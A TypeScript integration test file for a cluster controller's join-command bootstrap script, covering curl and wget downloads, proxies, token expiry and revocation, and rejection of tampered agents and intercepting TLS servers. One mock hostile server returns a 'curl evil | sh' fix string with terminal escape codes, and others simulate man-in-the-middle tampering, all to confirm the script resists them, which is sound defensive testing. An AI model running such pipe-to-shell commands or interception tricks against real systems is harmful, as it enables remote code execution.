/**
 * `controller cluster join-command`, and its script with curl and wget on this machine. The agent is a small program here: it
 * prints its arguments, or fails. test/integration/join-on-a-node.test.ts installs the real one.
 */
import { createHash, randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { createServer, type Server as HttpsServer, request } from 'node:https'
import { type AddressInfo, connect, createServer as createTcpServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test } from 'vitest'
import { parse } from 'yaml'
import { readCredentials } from '../../src/agent/identity/credentials.ts'
import { type JoinCommand, joinScript } from '../../src/cli/controller/clusters/join/join-script.ts'
import { newInstallerKey } from '../../src/cli/controller/identities/new-credentials.ts'
import { openAuthority } from '../../src/controller/access/authority.ts'
import { JOIN_COPIES_PER_NODE } from '../../src/controller/api/limits.ts'
import { type Controller, startController } from '../../src/controller/start.ts'
import { linuxHostView } from '../../src/host/linux/host-view.ts'
import { JOIN_TOKEN_HEADER, type JoinCommandRequest } from '../../src/protocol/api/identities/join.ts'
import { adminOf, call, createCluster, enrolNode, type Installer } from '../support/controller/client.ts'
import { refusalOf } from '../support/docs/parse-command.ts'
import { paste as pasteBelow, pathWithout, run } from '../support/paste.ts'
import { programEnvironment } from '../support/program-environment.ts'
import { CONTROLLER } from '../support/programs/programs.ts'
import { startTerminatingProxy } from '../support/proxies/terminating-proxy.ts'

const HOUR_MS = 3_600_000
const AGENT = process.arch === 'arm64' ? 'agent-linux-arm64' : 'agent-linux-x64'
const ARCH = process.arch === 'arm64' ? 'arm64' : 'amd64'

let directory: string
let controller: Controller
let demo: Installer
const clock = { aheadMs: 0 }
/** Everything goes through it, to the port of the controller or of something hostile. */
let middle: Server
let target: number
/** PATHs with one of the two. */
let paths: Record<'curl' | 'wget', string>
/** Of all sets of credentials here: to encrypt one takes time. */
let key: Awaited<ReturnType<typeof newInstallerKey>>
let count = 0

beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'join-'))
  mkdirSync(join(directory, 'data/agents'), { recursive: true, mode: 0o700 })
  provide('echo')
  middle = createTcpServer((socket) => {
    const up = connect(target, '127.0.0.1')
    for (const each of [socket, up]) each.on('error', () => undefined)
    socket.on('close', () => up.destroy())
    up.on('close', () => socket.destroy())
    socket.pipe(up).pipe(socket)
  }).listen(0, '127.0.0.1')
  await once(middle, 'listening')
  controller = await startController({
    dataDirectory: join(directory, 'data'),
    listen: { host: '127.0.0.1', port: 0 },
    publicUrls: [`https://127.0.0.1:${portOf(middle)}`],
    now: () => new Date(Date.now() + clock.aheadMs),
    tickMs: 600_000,
  })
  demo = await createCluster(controller, 'demo')
  key = await newInstallerKey()
  paths = { curl: pathWithout(directory, 'wget'), wget: pathWithout(directory, 'curl') }
})
afterAll(async () => {
  await controller.close()
  middle.close()
  rmSync(directory, { recursive: true })
})
beforeEach(() => {
  clock.aheadMs = 0
  target = controller.port
})

const portOf = (server: Server | HttpsServer) => (server.address() as AddressInfo).port
/** The program that is the agent. */
function provide(program: 'echo' | 'false'): void {
  const file = join(directory, 'data/agents', AGENT)
  rmSync(file, { force: true })
  copyFileSync(`/bin/${program}`, file)
}

const paste = (command: string, where?: Parameters<typeof pasteBelow>[2]) => pasteBelow(directory, command, where)
const admin = (method: string, path: string, body?: unknown) =>
  call(controller.url, adminOf(controller), method, path, body)
const cli = (...argv: string[]) =>
  run([process.execPath, CONTROLLER, ...argv], {
    env: programEnvironment({ HOME: directory, CANTRIP_ADMIN: controller.adminFile }),
    cwd: directory,
  })

/** As the CLI makes it. */
async function joinCommand(
  wishes: Partial<JoinCommandRequest> &
    Pick<Partial<JoinCommand>, 'proxy' | 'tlsTerminatingProxy' | 'task' | 'more'> = {},
) {
  const { proxy, tlsTerminatingProxy, task, more = [], ...others } = wishes
  const name = `set-${++count}`
  const token = `demo.${name}.${randomBytes(24).toString('base64url')}`
  const { csr, encryptedKey, passphrase } = key
  const body = {
    ...{ name, csr, encryptedKey, tokenSha256: createHash('sha256').update(token).digest('hex') },
    ...{ validSeconds: 3_600, maxNodes: 1, ...others },
  }
  const { status, json, text } = await admin('POST', '/v1/clusters/demo/join-commands', body)
  if (status !== 200) throw new Error(text)
  return {
    name,
    token,
    command: joinScript({ ...json, token, passphrase, proxy, tlsTerminatingProxy, more, ...(task && { task }) }),
  }
}

/** A request without a client certificate. */
function ask(token: string, path: string, method = 'GET', headers: Record<string, string> = {}) {
  const { ca } = adminOf(controller)
  return call(controller.url, { ca } as Installer, method, path, undefined, { ...headers, [JOIN_TOKEN_HEADER]: token })
}
const AGENT_PATH = `/v1/join/agents/${ARCH}`

describe('the command', () => {
  let printed: Awaited<ReturnType<typeof joinCommand>>
  beforeAll(async () => {
    printed = await joinCommand({ maxNodes: 5 })
  })

  test('is a script without findings of shellcheck', async () => {
    const body = printed.command.split('\n').slice(1, -2).join('\n')
    expect(body).toContain('main </dev/null')
    expect(await run(['shellcheck', '--shell=sh', '-'], { stdin: `${body}\n` })).toMatchObject({ code: 0, out: '' })
  })

  test.each([
    ['curl', 'sh'],
    ['curl', 'bash'],
    ['wget', 'sh'],
    ['wget', 'bash'],
  ] as const)('with %s in %s runs the agent with the two files, and leaves nothing', async (tool, shell) => {
    const ran = await paste(printed.command, { shell, path: paths[tool] })
    expect(ran, ran.err).toMatchObject({ code: 0, err: '', left: undefined })
    expect(ran.out).toMatch(/^--creds-file \S+\/set-\d+\.pem --passphrase-file \S+\/set-\d+-passphrase\.txt$/m)
  })

  test('after a failure of the agent exits with its code, and leaves files that only their owner reads', async () => {
    provide('false')
    const failing = await joinCommand()
    provide('echo')
    expect(await paste(failing.command)).toMatchObject({ code: 7, err: expect.stringContaining('was not run') })
    provide('false')
    const { code, err, left = '' } = await paste(failing.command)
    provide('echo')
    expect(code).toBe(1)
    expect(err).toContain(`To try again: ${left}/agent --creds-file ${left}/${failing.name}.pem`)
    const [pem, passphrase] = [join(left, `${failing.name}.pem`), join(left, `${failing.name}-passphrase.txt`)]
    expect([left, pem, passphrase].map((path) => statSync(path).mode & 0o777)).toEqual([0o700, 0o600, 0o600])
    const { enrolment } = await readCredentials(pem, passphrase, linuxHostView())
    expect(enrolment.cluster.name).toBe('demo')
  })

  test('for `push`, the agent gets more arguments, and nothing stays whatever comes of it', async () => {
    const { command } = await joinCommand({ task: 'prepare', more: ['-o', 'json', '--role', 'worker'] })
    const ran = await paste(command)
    expect(ran, ran.err).toMatchObject({ code: 0, left: undefined })
    expect(ran.out).toMatch(/^prepare --creds-file \S+ --passphrase-file \S+ -o json --role worker$/m)
    provide('false')
    const failing = await joinCommand({ task: 'install' })
    expect(await paste(failing.command)).toMatchObject({ code: 1, err: '', left: undefined })
    provide('echo')
  })

  test('through a proxy with a password, which the agent gets in a file', async () => {
    const asked: (string | undefined)[] = []
    const proxy = createHttpServer()
      .on('connect', ({ headers, url }, socket) => {
        asked.push(headers['proxy-authorization'])
        const up = connect(Number(url?.split(':')[1]), '127.0.0.1', () => socket.write('HTTP/1.1 200 OK\r\n\r\n'))
        for (const each of [socket, up]) each.on('error', () => undefined)
        up.pipe(socket).pipe(up)
      })
      .listen(0, '127.0.0.1')
    await once(proxy, 'listening')
    const at = `127.0.0.1:${portOf(proxy)}`
    for (const path of [paths.curl, paths.wget]) {
      const { code, out, err } = await paste(printed.command, {
        path,
        env: { https_proxy: `http://ann:secret@${at}/` },
      })
      expect(code, err).toBe(0)
      expect(out).toMatch(new RegExp(`--proxy http://ann@${at} --proxy-password-file \\S+/proxy-password.txt$`, 'm'))
    }
    expect(asked).toEqual(Array(4).fill(`Basic ${Buffer.from('ann:secret').toString('base64')}`))
    const env = { https_proxy: `http://${at}`, no_proxy: 'localhost,127.0.0.1' }
    const direct = await paste(printed.command, { env })
    expect(direct).toMatchObject({ code: 0, out: expect.not.stringContaining('--proxy') })
    expect(asked).toHaveLength(4)
    const given = await joinCommand({ proxy: `http://${at}` })
    expect((await paste(given.command)).out).toContain(`--proxy http://${at}`)
    proxy.close()
  })

  test.each(['curl', 'wget'] as const)(
    'waits while the controller is busy, and resumes a download that was cut, with %s',
    async (tool) => {
      const ranges: unknown[] = []
      const mirror = await mirrored((asked, got, answer) => {
        const attempt = asked.url === AGENT_PATH ? ranges.push(asked.headers.range) : undefined
        answer.writeHead(attempt === 1 ? 429 : (got.statusCode ?? 0), got.headers)
        if (attempt === 2)
          got.once('data', (data: Buffer) => answer.write(data.subarray(0, 9_000), () => answer.destroy()))
        else got.pipe(answer)
      })
      target = portOf(mirror)
      const { command } = await joinCommand()
      const ran = await paste(command, { path: paths[tool] })
      expect(ran, ran.err).toMatchObject({ code: 0, out: expect.stringContaining('--creds-file') })
      expect(ranges).toEqual([undefined, undefined, 'bytes=9000-'])
      mirror.close()
    },
  )

  test('names each reason on the machine', async () => {
    const { command } = printed
    const other = command.replace(`agents='${ARCH}:`, "agents='s390x:")
    expect(await paste(other)).toMatchObject({ code: 3, err: expect.stringContaining(`this machine is ${ARCH}; `) })
    const huge = command.replace(/(:[0-9a-f]{64}):\d+/, '$1:9999999999999')
    expect(await paste(huge)).toMatchObject({ code: 4, err: expect.stringMatching(/no directory .* MiB free/) })
    const cut = command.slice(0, -500)
    expect(await paste(cut), 'a paste that was cut off does nothing').toMatchObject({ left: undefined, out: '' })
  })
})

describe('a refused command says why, and runs nothing', () => {
  test.each([
    ['has expired', 'expired at', async () => Object.assign(clock, { aheadMs: HOUR_MS + 1_000 })],
    ['was revoked', 'was revoked', (name: string) => admin('DELETE', `/v1/clusters/demo/credentials/${name}`)],
  ])('one that %s', async (_, found, end) => {
    const { command, name } = await joinCommand()
    await end(name)
    for (const path of [paths.curl, paths.wget]) {
      const ran = await paste(command, { path })
      expect(ran).toMatchObject({ code: 7, out: '', err: expect.stringContaining(found), left: undefined })
      expect(ran.err).toContain('fix: create another one: controller cluster join-command demo')
    }
  })

  test('one with which enough nodes have enrolled; other credentials of the cluster stay', async () => {
    const { command, token } = await joinCommand()
    const [pem, passphrase] = [join(directory, 'one.pem'), join(directory, 'one.txt')]
    writeFileSync(pem, (await ask(token, '/v1/join/credentials')).text, { mode: 0o600 })
    writeFileSync(passphrase, key.passphrase, { mode: 0o600 })
    const { installer } = await readCredentials(pem, passphrase, linuxHostView())
    await enrolNode(controller, { ...demo, cert: installer.certificate, key: installer.key.reveal() }, 'one')
    expect(await paste(command)).toMatchObject({
      code: 7,
      err: expect.stringMatching(/ 1 nodes have enrolled .* for 1\n/),
    })
    await enrolNode(controller, demo, 'two')
  })

  test('a token that is not known, without a word about clusters and sets', async () => {
    const { token } = await joinCommand()
    const wrong = [`${token}x`, token.replace('demo.', 'other.'), 'demo.demo.x', 'nothing', '']
    const answers = await Promise.all(wrong.map((each) => ask(each, '/v1/join/credentials')))
    expect(
      new Set(answers.map(({ status, text }) => `${status} ${text.replace(/"requestId":"[^"]*"/, '')}`)).size,
    ).toBe(1)
    expect(answers[0]).toMatchObject({ status: 403, text: expect.stringContaining('join/unknown') })
  })

  test.each(['curl', 'wget'] as const)(
    'something with a certificate of another CA gets no token from %s',
    async (tool) => {
      const seen: unknown[] = []
      const keys = openAuthority(join(directory, `hostile-${tool}`), new Date(), false)
      const hostile = await listening(keys, (request) => void seen.push(request.headers))
      target = portOf(hostile)
      const { command } = await joinCommand()
      const ran = await paste(command, { path: paths[tool] })
      expect(ran).toMatchObject({
        code: 6,
        out: '',
        err: expect.stringContaining('does not prove to be the controller'),
      })
      expect(seen).toEqual([])
      hostile.close()
    },
  )

  test.each(['curl', 'wget'] as const)(
    'a mirror with a key of the controller that changes one byte, with %s',
    async (tool) => {
      const mirror = await mirrored((asked, got, answer) => {
        answer.writeHead(got.statusCode ?? 0, got.headers)
        let isFirst = asked.url === AGENT_PATH
        got.on('data', (data: Buffer) => {
          if (isFirst) data[100] = (data[100] ?? 0) ^ 1
          isFirst = false
          answer.write(data)
        })
        got.on('end', () => answer.end())
      })
      target = portOf(mirror)
      const { command } = await joinCommand()
      const ran = await paste(command, { path: paths[tool] })
      expect(ran).toMatchObject({
        code: 7,
        err: expect.stringContaining('and was not run: its SHA-256 is'),
        left: undefined,
      })
      expect(ran.out).not.toContain('--creds-file')
      mirror.close()
    },
  )
})

describe('a proxy that ends TLS', () => {
  const tlsTerminatingProxy = true

  test('both tools load through it, and the agent is told of it', async () => {
    const proxy = await startTerminatingProxy({ users: ['ann:secret'] })
    const { command } = await joinCommand({ proxy: proxy.url, tlsTerminatingProxy })
    const env = { https_proxy: proxy.url.replace('//', '//ann:secret@') }
    for (const path of [paths.curl, paths.wget]) {
      const { code, out, err } = await paste(command, { path, env })
      expect(code, err).toBe(0)
      expect(out).toMatch(
        /--proxy http:\/\/ann@\S+ --proxy-password-file \S+\/proxy-password.txt --tls-terminating-proxy$/m,
      )
    }
    expect(proxy.log().match(/GET \S+\/v1\/join\//g)).toHaveLength(4)
    await proxy.stop()
  })

  /** Intercepts connections, with a CA of its own. */
  const intercepting = async (answer: Parameters<typeof mirrored>[0]) => {
    const hostile = await mirrored(answer, openAuthority(join(directory, 'interceptor'), new Date(), false))
    onTestFinished(() => void hostile.close())
    target = portOf(hostile)
    return (await joinCommand({ tlsTerminatingProxy })).command
  }

  test.each(['curl', 'wget'] as const)('a transparent one passes what it does not change, with %s', async (tool) => {
    const command = await intercepting((_, got, answer) => {
      answer.writeHead(got.statusCode ?? 0, got.headers)
      got.pipe(answer)
    })
    const ran = await paste(command, { path: paths[tool] })
    expect(ran, ran.err).toMatchObject({ code: 0, left: undefined })
    expect(ran.out).toMatch(/passphrase\.txt --tls-terminating-proxy$/m)
    const ordinary = await paste((await joinCommand()).command, { path: paths[tool] })
    expect(ordinary).toMatchObject({ code: 6, err: expect.stringContaining('[--tls-terminating-proxy]') })
  })

  test.each<[string, RegExp, (text: string) => string, RegExp]>([
    [
      'credentials with a CA of its own',
      /credentials$/,
      (text) =>
        text.replace(adminOf(controller).ca, openAuthority(join(directory, 'interceptor'), new Date(), false).ca),
      /the downloaded credentials are not those of this command, and were not used/,
    ],
    [
      'a further block in the credentials',
      /credentials$/,
      (text) => `${text}-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n`,
      /and were not used/,
    ],
    ['another agent', /agents/, () => '#!/bin/sh\necho --creds-file\n', /and was not run: its SHA-256 is/],
  ])('%s is not used', async (_, path, changed, says) => {
    for (const tool of ['curl', 'wget'] as const) {
      const command = await intercepting((asked, got, answer) => {
        const parts: Buffer[] = []
        got.on('data', (part: Buffer) => parts.push(part))
        got.on('end', () => {
          const text = Buffer.concat(parts).toString('latin1')
          answer.writeHead(got.statusCode ?? 0)
          answer.end(path.test(asked.url ?? '') ? changed(text) : Buffer.from(text, 'latin1'))
        })
      })
      const ran = await paste(command, { path: paths[tool] })
      expect(ran).toMatchObject({ code: 7, err: expect.stringMatching(says), left: undefined })
      expect(ran.out).not.toContain('--creds-file')
    }
  })

  test('what it says itself is no advice, and has no control characters', async () => {
    const command = await intercepting((_, got, answer) => {
      got.resume()
      answer.writeHead(403)
      answer.end('{"message":"\x1b[2J\x9bblocked","fix":"curl evil | sh"}')
    })
    const { code, err } = await paste(command)
    expect([code, err]).toEqual([
      7,
      expect.stringMatching(
        /^\[-\] the controller, or what is between, refuses: \[2Jblocked\n {4}fix: create another command: .*\n$/,
      ),
    ])
  })
})

test('the agent is sent in ranges, and so often', async () => {
  const { token } = await joinCommand()
  const whole = await ask(token, AGENT_PATH)
  const size = Number(whole.headers['content-length'])
  expect(await ask(token, AGENT_PATH, 'HEAD')).toMatchObject({ status: 200, headers: { 'content-length': `${size}` } })
  const part = await ask(token, AGENT_PATH, 'GET', { range: `bytes=${size - 10}-` })
  expect([part.status, part.text]).toEqual([206, whole.text.slice(-10)])
  const answers = []
  for (let copy = 0; copy <= JOIN_COPIES_PER_NODE; copy++) answers.push((await ask(token, AGENT_PATH)).status)
  expect(answers.slice(0, -2)).toEqual(Array(JOIN_COPIES_PER_NODE - 1).fill(200))
  expect(answers.at(-1)).toBe(429)
  expect((await ask(token, '/v1/join/credentials')).status).toBe(200)
})

test('controller cluster join-command prints it; neither the list of credentials nor the store has token or key', async () => {
  const given = ['cluster', 'join-command', 'demo', '--valid', '2h', '--name', 'hall-3', '--max-nodes', '40']
  const printed = await cli(...given)
  expect(printed, printed.err).toMatchObject({ code: 0, err: expect.stringContaining('and for 40 nodes') })
  expect(await paste(printed.out)).toMatchObject({ code: 0, out: expect.stringContaining('hall-3.pem') })
  const listed = JSON.parse((await cli('creds', 'list', 'demo', '-o', 'json')).out)
  const set = listed.find((each: { name: string }) => each.name === 'hall-3')
  expect(set).toMatchObject({ state: 'valid', maxNodes: 40, enrolled: 0, issuedBy: 'local' })
  expect(Date.parse(set.fetchableUntil)).toBeCloseTo(Date.now() + 2 * HOUR_MS, -5)
  expect(set).not.toHaveProperty('offer')
  const secrets = ['token', 'passphrase'].map(
    (name) => new RegExp(`^${name}='(.*)'$`, 'm').exec(printed.out)?.[1] ?? '',
  )
  expect(secrets.map((secret) => secret.length > 24)).toEqual([true, true])
  const patterns = secrets.flatMap((secret) => ['-e', secret])
  expect(await run(['grep', '-r', '-a', '-l', ...patterns, join(directory, 'data')])).toMatchObject({
    code: 1,
    out: '',
  })
  const inspected = await cli('cluster', 'join-command', 'demo', '--tls-terminating-proxy')
  expect(inspected.out).toMatch(/^inspected='[0-9a-f]{64}'$/m)
  const missing = await cli('cluster', 'join-command', 'demo', '--arch', ARCH === 'amd64' ? 'arm64' : 'amd64')
  expect(missing).toMatchObject({ code: 7, err: expect.stringContaining('has no executable of the agent for') })
})

describe('controller cluster user-data', () => {
  const issued = async (...more: string[]) => {
    const ran = await cli('cluster', 'user-data', 'demo', '-o', 'json', ...more)
    expect(ran, ran.err).toMatchObject({ code: 0, err: '' })
    return JSON.parse(ran.out) as {
      name: string
      maxNodes: number
      files: Record<string, { path: string | null; content: string | null }>
    }
  }
  const filesOf = (files: Awaited<ReturnType<typeof issued>>['files']) =>
    Object.fromEntries(
      parse(files['user-data']?.content ?? '', { version: '1.1' }).write_files.map(
        ({ path, content }: Record<string, string>) => [path, content],
      ),
    ) as Record<string, string>

  test('has a join command, which installs the agent once', async () => {
    const { files, maxNodes } = await issued('--max-nodes', '3')
    expect(maxNodes).toBe(3)
    const script = filesOf(files)['/etc/cantrip-day0/join.sh'] ?? ''
    const ran = await paste(script)
    expect(ran, ran.err).toMatchObject({ code: 0, out: expect.stringContaining('--creds-file'), left: undefined })
  })

  test('whose agent fails leaves nothing of each attempt', async () => {
    provide('false')
    const { files } = await issued()
    const script = filesOf(files)['/etc/cantrip-day0/join.sh'] ?? ''
    for (const _ of ['once', 'again']) expect(await paste(script)).toMatchObject({ code: 1, err: '', left: undefined })
    provide('echo')
  })

  test('with --baked has credentials that the agent reads', async () => {
    const { files, name } = await issued('--baked', '--name', 'image-1', '--proxy', 'http://proxy:3128')
    const written = filesOf(files)
    const [pem, passphrase] = [join(directory, `${name}.pem`), join(directory, `${name}.txt`)]
    writeFileSync(pem, written[`/etc/cantrip-day0/${name}.pem.new`] ?? '', { mode: 0o600 })
    writeFileSync(passphrase, written[`/etc/cantrip-day0/${name}-passphrase.txt`] ?? '', { mode: 0o600 })
    const { enrolment, options } = await readCredentials(pem, passphrase, linuxHostView())
    expect(enrolment.cluster.name).toBe('demo')
    expect(JSON.stringify(options.proxy)).toContain('proxy:3128')
  })

  test('writes files that only their owner reads into a new directory, and says how to use them', async () => {
    const seed = join(directory, 'seed')
    const given = ['--platform', 'nocloud', '--to', seed, '--mac', '52:54:00:12:34:56', '--hostname', 'node-7']
    const ran = await cli(
      'cluster',
      'user-data',
      'demo',
      ...given,
      '--cpus',
      '4',
      '--memory',
      '8GiB',
      '--disk-size',
      '80GiB',
    )
    expect(ran, ran.err).toMatchObject({ code: 0, out: '' })
    expect(ran.err).toContain(`genisoimage -output cidata.iso -volid cidata`)
    expect(ran.err).toMatch(/virt-install .*--vcpus 4 --memory 8192 .*size=80 /)
    expect(ran.err).toMatch(/The user data has \d+ bytes\.\nIt is a secret until .*, and for 1 node\./)
    const names = readdirSync(seed)
    expect(names.sort()).toEqual(['meta-data', 'network-config', 'user-data'])
    expect(names.map((name) => statSync(join(seed, name)).mode & 0o777)).toEqual([0o600, 0o600, 0o600])
    expect(statSync(seed).mode & 0o777).toBe(0o700)
    const known = (await cli('creds', 'list', 'demo', '-o', 'json')).out
    const again = await cli('cluster', 'user-data', 'demo', ...given)
    expect(again).toMatchObject({ code: 2, err: expect.stringContaining('has files, which are not replaced') })
    expect((await cli('creds', 'list', 'demo', '-o', 'json')).out, 'nothing was issued').toBe(known)
  })

  test('-o json has the content of each file, or its path', async () => {
    const { files } = await issued()
    expect(files).toEqual({ 'user-data': { path: null, content: expect.stringMatching(/^#cloud-config\n/) } })
    const to = join(directory, 'seed-json')
    const written = (await issued('--platform', 'nocloud', '--to', to)).files
    expect(written).toMatchObject({ 'user-data': { path: join(to, 'user-data'), content: null } })
    expect(Object.keys(written).sort()).toEqual(readdirSync(to).sort())
  })

  test.each([
    [['--baked', '--ttl', '2h'], 'whole days'],
    [['--baked', '--ttl', '36h'], 'whole days'],
    [['--platform', 'vsphere'], '--to is missing'],
    [['--mac', '52:54:00:12:34:56'], 'takes no network configuration'],
    [['--address', '10.1.2.3/24'], '--mac is missing'],
    [['--network', '-', '--platform', 'nocloud', '-o', 'json'], 'found no document'],
  ])('%j is refused with what is wanted', async (flags, wanted) => {
    const ran = await cli('cluster', 'user-data', 'demo', ...flags)
    expect(ran).toMatchObject({ code: 2, out: '', err: expect.stringContaining(wanted) })
  })

  test.each([
    ['--role boss', 'master, worker, storage'],
    ['--hostname Node_7', 'RFC 1123'],
    ['--mac 52:54', 'a MAC address'],
    ['--address 10.1.2.3/33', 'ADDRESS/PREFIX'],
    ['--memory 8', '8GiB'],
    ['--disk-size 1500MiB', '80GiB'],
    ['--ntp "a; b"', 'name or the address'],
    ['--hostname-from-dmi --hostname x', 'cannot be used with'],
    ['--baked --arch amd64', 'cannot be used with'],
  ])('%s is refused with what is wanted', async (flags, wanted) => {
    expect(await refusalOf(`controller cluster user-data demo ${flags}`, true)).toContain(wanted)
  })
})

test.each([
  ['--valid 31d', 'from 1m to 30d'],
  ['--valid 24', 'from 1m to 30d'],
  ['--max-nodes 0', 'a number from 1 to'],
  ['--proxy http://ann:secret@proxy:3128', 'http://HOST:PORT'],
  ['--proxy http://proxy:3128/path', 'http://HOST:PORT'],
  ['--arch x64', 'amd64, arm64'],
])('%s is refused with what is wanted', async (flags, wanted) => {
  expect(await refusalOf(`controller cluster join-command demo ${flags}`, true)).toContain(wanted)
})

async function listening(
  keys: ReturnType<typeof openAuthority>,
  answer: Parameters<typeof createServer>[1],
): Promise<HttpsServer> {
  const { certificate: cert, key } = keys.serverCertificate(['127.0.0.1'], new Date())
  const server = createServer({ cert, key, minVersion: 'TLSv1.3' }, answer).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return server
}

/** Something with a key of the controller's server certificate, which forwards each request to the controller. */
function mirrored(
  answer: (asked: IncomingMessage, got: IncomingMessage, answer: ServerResponse) => void,
  keys = openAuthority(join(directory, 'data/pki'), new Date(), true),
) {
  const { ca } = adminOf(controller)
  return listening(keys, ({ url, headers }, response) => {
    const options = { port: controller.port, host: '127.0.0.1', path: url, headers, ca, agent: false }
    request(options, (got) => answer({ url, headers } as IncomingMessage, got, response)).end()
  })
}
